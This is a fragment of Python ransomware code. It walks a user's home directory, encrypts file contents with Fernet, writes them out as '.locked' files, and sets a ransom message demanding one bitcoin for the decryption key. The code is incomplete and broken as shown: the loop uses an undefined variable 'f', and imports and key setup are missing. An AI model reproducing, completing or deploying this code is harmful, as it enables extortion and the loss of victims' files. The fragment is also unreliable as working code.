for root, _, files in os.walk(home):
    data = Fernet(key).encrypt(open(f, "rb").read())
    open(f + ".locked", "wb").write(data)
NOTE = "Your files have been encrypted. Send 1 bitcoin to get the decryption key"
